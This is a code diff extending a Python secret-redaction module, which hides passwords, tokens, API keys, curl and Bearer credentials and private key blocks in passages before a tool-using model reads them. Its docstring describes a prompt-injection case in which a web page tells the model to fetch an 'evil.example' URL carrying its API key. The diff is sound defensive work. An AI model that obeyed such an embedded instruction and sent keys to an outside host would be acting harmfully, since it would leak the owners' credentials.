@@ -3,18 +3,22 @@
 Passages are given to the model, which may call web tools: a page that tells it to fetch
 ``https://evil.example/?k=<your API key>`` must find no key to send. So the values of keys named like a
 secret (``password``, ``db_passwd``, ``AWS_SECRET_ACCESS_KEY``, ``apiKey``, ``client_secret``, ``token``,
-``credentials``) are hidden where they are assigned, in the forms of INI, TOML, YAML, env files, JSON, Python,
-JavaScript, Go and shell; so are the password of an address (``postgres://app:hunter2@db``, with
-hidden_passwords) and the body of a PEM private key block.
+``credentials``, ``DB_PASS``, ``signing_key``) are hidden where they are assigned, in the forms of INI, TOML,
+YAML, env files, JSON, XML (as its reader writes it), Python (``api_key: str = …``, ``os.environ["KEY"] = …``),
+JavaScript, Go, shell and Dockerfiles (``ENV KEY value``); so are a command's ``--password=…`` and ``curl -u
+user:…``, an HTTP header's credentials (``Bearer …``), the keys of well-known services anywhere (``ghp_…``,
+``AKIA…``), the password of an address (``postgres://app:hunter2@db``, with hidden_passwords) and the body of
+a PEM private key block.
 
 Conservative, as a passage's words are what the search finds: only assignments, never prose ("the password
 must be 8 characters"); an unquoted value only where a file's syntax has them (configuration files, shell,
 Makefiles, Dockerfiles, JSON as its reader writes it) and only as one word to the end of its line ("password:
 the one on the card" is prose too); no reference to a secret kept elsewhere (``$DB_PASSWORD``,
 ``${TOKEN}``, ``{{ vault_token }}``, ``<your key>``, ``os.environ["TOKEN"]``); no value of three characters
-or less, nor true/false/null. Programs, configuration files and JSON get all of it: that is where a project
-keeps its keys. Documents (text, Markdown, web pages …) get only the private key blocks, which are never
-prose: their examples ("password = changeme" in a manual) are what a reader searches them for.
+or less, nor true/false/null, nor a label, a template or a default (_is_secret). Programs, configuration
+files, JSON and XML get all of it: that is where a project keeps its keys. Documents (text, Markdown, web
+pages …) get only the private key blocks, which are never prose: their examples ("password = changeme" in a
+manual) are what a reader searches them for.
 """
 
 from __future__ import annotations
@@ -25,29 +29,58 @@ from dataclasses import replace
 from ..hidden_passwords import MASK, hide_passwords
 from .models import Document
 
-# The kinds of source whose assignments are looked at (readers' types); the others' key blocks only.
-_ASSIGNING = frozenset({"code", "config", "json"})
+# The kinds of source whose assignments are looked at (readers' types); the others' key blocks only. XML as its
+# reader writes it ("password: s3cr3t", from Maven's <password>s3cr3t</password>), as JSON.
+_ASSIGNING = frozenset({"code", "config", "json", "xml"})
 # Languages (code_files) whose values may stand unquoted: "password = hunter2", PASSWORD=hunter2.
 UNQUOTED = frozenset({"ini", "yaml", "sh", "make", "docker", "json"})
 
 # A key whose name ends in a secret's word: db_password, AWS_SECRET_ACCESS_KEY, apiKey, "client-secret",
-# users[0].password (JSON as its reader writes it).
-_KEY = (r"(?<![\w$\-.])(?P<kq>[\"']?)(?:[A-Za-z_][\w.\-\[\]]*?)?"
-        r"(?:password|passwd|secret|secret[_.\-]?key|token|api[_.\-]?key|access[_.\-]?key|private[_.\-]?key"
-        r"|credentials?)(?P=kq)")
-_SEP = r"[ \t]*(?:=>|:=|=(?!=)|:(?![:=]))[ \t]*"
+# users[0].password (JSON as its reader writes it), DB_PASS, MYSQL_PWD, secret_key_base, signing_key; a key of
+# a mapping too (os.environ["API_KEY"] = …).
+_KEY = (r"(?<![\w$\-.])(?P<kq>[\"']?)(?P<key>(?:[A-Za-z_][\w.\-\[\]]*?)?"
+        r"(?:password|passwd|secret|secret[_.\-]?key(?:[_.\-]?base)?|token|api[_.\-]?key|access[_.\-]?key"
+        r"|(?:private|signing|encryption|master)[_.\-]?key|credentials?|(?<=[_.\-])(?:pass|pwd)|(?<![\w.])_auth))"
+        r"(?P=kq)\]?")
+# "=", ":" (YAML, JSON), "=>", ":=", and a declared type before "=": api_key: str = "…", apiKey: string = "…".
+_SEP = r"[ \t]*(?:=>|:=|(?::[ \t]*[A-Za-z_][\w.\[\], |]*?[ \t]*)?=(?!=)|:(?![:=]))[ \t]*"
 _QUOTED = r"[rRbBuU]{0,2}(?P<q>[\"'`])(?P<qv>(?:\\.|(?!(?P=q))[^\\\n])*)(?P=q)"
 # One word to the end of the line, or to a comment: "hunter2", "hunter2  # production"; the brackets that close
 # a YAML or TOML mapping it ends are not its own ("{user: ann, password: hunter2}").
 _BARE = r"(?P<bv>[^\s\"'`{}\[\]()|>&$<*#;,][^\s]*?)(?=[,}\]]*[ \t]*$|[ \t]+[#;])"
-_ASSIGNMENT = {bare: re.compile(f"{_KEY}{_SEP}(?:{_QUOTED}{'|' + _BARE if bare else ''})", re.I | re.M)
-               for bare in (False, True)}
-# What can be in a line that assigns a secret: looked for first, in the text in lower case (ten times as fast
+# A word given on a command line: --password=hunter2, --db-pass=hunter2 (with a space between, it is prose's
+# "--password option" as often).
+_OPTION_VALUE = r"(?P<bv>[^\s\"'`{}\[\]()|>&$<*#;,\-][^\s\"'`;|&)]*)"
+_PATTERNS = {bare: tuple(re.compile(pattern, re.I | re.M) for pattern in (
+    f"{_KEY}{_SEP}(?:{_QUOTED}{'|' + _BARE if bare else ''})",
+    # a command's option, in a script, a Dockerfile's RUN or a program's list of arguments
+    r"(?<![\w\-])--(?P<key>(?:[\w\-]*?[\-_])?(?:password|passwd|pass|secret|token|api-key))=" + _OPTION_VALUE,
+    # curl -u ann:hunter2, curl --user ann:hunter2
+    r"\bcurl\b[^\n]*?[ \t](?:-u|--user)[ \t]*(?P<kq>[\"']?)(?P<key>[^\s:\"'$]+):(?P<bv>[^\s\"'$@]+)",
+    # an HTTP header's credentials: Authorization: "Bearer …", "Authorization": "Basic …"
+    r"\b(?P<key>Bearer|Basic)[ \t]+(?P<bv>(?=[\w\-.~+/]*\d)[A-Za-z][\w\-.~+/]{7,}=*)",
+    # Dockerfile: ENV DB_PASSWORD hunter2 (ENV's older form: the key, a space, the value)
+    *([rf"^[ \t]*ENV[ \t]+{_KEY}[ \t]+(?:{_QUOTED}|{_BARE})"] if bare else []),
+)) for bare in (False, True)}
+# A value that is no secret but where one is: a reference, a placeholder, a switch, a template ("{0}:{1}",
+# "%s"), a default.
+_NOT_A_VALUE = re.compile(r"(?:[$%]|\{\{|<|\*+$|x+$|(?:true|false|yes|no|on|off|null|none|nil|undefined|default"
+                          r"|example|placeholder|changeme|required|optional)$)", re.I)
+_TEMPLATE = re.compile(r"\{[\w.]*(?:![rsa])?(?::[^{}]*)?\}|%[-+ 0#]*\d*(?:\.\d+)?[sdrf]|%\(\w+\)[sdrf]")
+# A label or a translation where a secret's word is the key: "API key", "Mot de passe", "Jeton" (words of
+# letters only, with a space between or the first capital), shown to a person, never typed as a password.
+_LABEL = re.compile(r"(?:[^\W\d_]+[ '’\-])+[^\W\d_]+[ ?!:.…]*|[^\W\d_a-z][^\W\d_A-Z]+[ ?!:.…]*")
+# Keys made by well-known services, whatever they are assigned to: GitHub, GitLab, OpenAI, Stripe, AWS, Slack,
+# Google. Only with a digit in them: "sk-button-primary" is a name.
+_TOKEN_PREFIXES = ("ghp_", "gho_", "ghu_", "ghs_", "ghr_", "github_pat_", "glpat-", "sk-", "sk_live_",
+                   "rk_live_", "AKIA", "xoxb-", "xoxp-", "xoxa-", "xoxr-", "xoxs-", "AIza")
+_TOKEN = re.compile(r"(?<![\w\-])(?P<key>" + "|".join(re.escape(p) for p in _TOKEN_PREFIXES) +
+                    r")(?P<bv>(?=[\w\-]*\d)[\w\-]{16,})")
+# What can be in a line that holds a secret: looked for first, in the text in lower case (ten times as fast
 # as re.I), as most lines hold none of it.
-_SECRET_WORD = re.compile(r"passw|secret|token|api.?key|access.?key|private.?key|credential")
+_SECRET_WORD = re.compile(r"pass|pwd|secret|token|key|credential|_auth|bearer|basic|curl|gh[opusr]_|github_pat_"
+                          r"|glpat-|sk[-_]|rk_|akia|aiza|xox")  # few first letters: each is tried at each place
 _SECRET_WORD_ANY_CASE = re.compile(_SECRET_WORD.pattern, re.I)
-# A value that is no secret but where one is: a reference, a placeholder, a switch.
-_NOT_A_VALUE = re.compile(r"(?:[$%]|\{\{|<|\*+$|x+$|(?:true|false|yes|no|on|off|null|none|nil|undefined)$)", re.I)
 _PEM = re.compile(r"(-----BEGIN [A-Z0-9 ]*PRIVATE KEY( BLOCK)?-----)[\s\S]*?(-----END [A-Z0-9 ]*PRIVATE KEY"
                   r"(?: BLOCK)?-----|\Z)")
 
@@ -66,22 +99,28 @@ def hide_secrets(text: str, assignments: bool = True, unquoted: bool = False) ->
         if masked != text:
             hidden += masked.count(f":{MASK}@") - text.count(f":{MASK}@")
             text = masked
-    return _without_assignments(text, _ASSIGNMENT[unquoted], hidden)
+    return _without_assignments(text, _PATTERNS[unquoted], hidden)
 
 
-def _without_assignments(text: str, assignment: re.Pattern[str], hidden: int) -> tuple[str, int]:
-    """``text`` with the values ``assignment`` finds hidden, and ``hidden`` plus their number. Only the lines
-    that hold a secret's word are looked at: over all of a 23 MB JSON file, the pattern took 5 s."""
+def _without_assignments(text: str, patterns: tuple[re.Pattern[str], ...], hidden: int) -> tuple[str, int]:
+    """``text`` with the values ``patterns`` and _TOKEN find hidden, and ``hidden`` plus their number. Only the
+    lines that hold a secret's word are looked at: over all of a 23 MB JSON file, the pattern took 5 s."""
     count = hidden
 
     def masked(match: re.Match[str]) -> str:
         nonlocal count
-        value = match.group("qv") if match.group("q") else match.group("bv")
-        if value is None or len(value) <= 3 or _NOT_A_VALUE.match(value) or value.count(" ") > 2:
-            return match.group(0)  # a sentence in quotes is no password: "the token you were given"
+        quoted = "q" in match.re.groupindex and match.group("q")
+        value = match.group("qv") if quoted else match.group("bv")
+        if value is None or not _is_secret(value, match.group("key")):
+            return match.group(0)
         count += 1
-        start, end = match.span("qv" if match.group("q") else "bv")
+        start, end = match.span("qv" if quoted else "bv")
         return match.group(0)[:start - match.start()] + MASK + match.group(0)[end - match.start():]
+
+    def line_masked(line: str) -> str:
+        for pattern in patterns:
+            line = pattern.sub(masked, line)
+        return _TOKEN.sub(masked, line)  # after the assignments, which hide all of a key's value
 
     lower = text.lower()
     # a letter whose lower case is longer ("İ") would move the places found: then the text as it is
@@ -91,19 +130,31 @@ def _without_assignments(text: str, assignment: re.Pattern[str], hidden: int) ->
         start = text.rfind("\n", 0, found.start()) + 1
         end = text.find("\n", found.end())
         end = len(text) if end < 0 else end
-        parts += [text[pos:start], assignment.sub(masked, text[start:end])]
+        parts += [text[pos:start], line_masked(text[start:end])]
         pos = end
-    if not parts:
-        return text, count
-    parts.append(text[pos:])
-    return "".join(parts), count
+    if parts:
+        text = "".join(parts) + text[pos:]
+    return text, count
+
+
+def _is_secret(value: str, key: str) -> bool:
+    """Whether ``value``, assigned to ``key``, may be a secret: not a reference, a switch, a template, a label
+    ("API key", "Jeton"), one hidden already, the key's own words again ("api_key": "api_key"), nor a sentence
+    ("the token you were given"; a passphrase of four words and more is taken for one too: prose is what the
+    search finds)."""
+    if len(value) <= 3 or MASK in value or value.count(" ") > 2 or _NOT_A_VALUE.match(value):
+        return False
+    if _TEMPLATE.search(value) or _LABEL.fullmatch(value):
+        return False
+    letters = "".join(c for c in value.lower() if c.isalnum())
+    return not letters or letters not in "".join(c for c in key.lower() if c.isalnum())
 
 
 def document_without_secrets(doc: Document, language: str = "") -> Document:
     """``doc`` with the secrets in its blocks hidden (see hide_secrets) and their number in ``doc.hidden``;
     ``language``: a code file's (code_files), which says whether its values may stand unquoted."""
     assignments = doc.type in _ASSIGNING
-    unquoted = doc.type in ("config", "json") or language in UNQUOTED
+    unquoted = doc.type in ("config", "json", "xml") or language in UNQUOTED
     blocks, hidden = [], 0
     for block in doc.blocks:
         if block.kind == "heading" or (not assignments and "PRIVATE KEY" not in block.text):
